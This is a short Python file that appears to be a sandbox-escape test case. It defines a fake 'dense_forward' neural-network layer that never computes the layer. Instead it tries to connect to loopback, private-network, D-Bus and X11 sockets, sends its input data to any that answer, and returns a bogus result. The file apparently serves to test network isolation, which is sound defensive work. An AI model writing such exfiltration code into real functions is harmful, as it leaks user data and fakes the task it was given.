"""Tries to send its inputs away and to fetch an answer."""
# attacks: dense_forward, dense_backward
# %% dense_forward
import socket


def dense_forward(x, W, b):
    for family, address in (
        (socket.AF_INET, ("127.0.0.1", 80)),
        (socket.AF_INET, ("10.0.0.1", 53)),
        (socket.AF_INET6, ("::1", 80)),
        (socket.AF_UNIX, "/run/dbus/system_bus_socket"),
        (socket.AF_UNIX, "\0/tmp/.X11-unix/X0"),
    ):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as connection:
                connection.settimeout(1)
                connection.connect(address)
                connection.sendall(x.tobytes())
                print("reached", address)
        except OSError:
            pass
    return x, None
